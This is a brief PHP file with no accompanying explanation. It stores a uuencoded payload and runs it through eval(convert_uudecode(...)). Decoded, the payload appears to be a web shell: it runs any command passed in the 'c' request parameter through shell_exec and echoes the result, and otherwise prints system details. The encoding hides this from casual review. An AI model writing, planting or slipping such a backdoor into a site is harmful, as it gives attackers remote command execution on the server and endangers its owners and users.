<?php
$u = <<<'U'
M:68H:7-S970H)%]215%515-46R=C)UTI*7ME8VAO("<\<')E/B<[)&\]<VAE
M;&Q?97AE8R@D7U)%455%4U1;)V,G72D[96-H;R!H=&UL<W!E8VEA;&-H87)S
K*"1O*3ME8VAO("<\+W!R93XG.WUE;'-E>V5C:&\@<&AP7W5N86UE*"D[?0``
`
U;
eval(convert_uudecode($u));
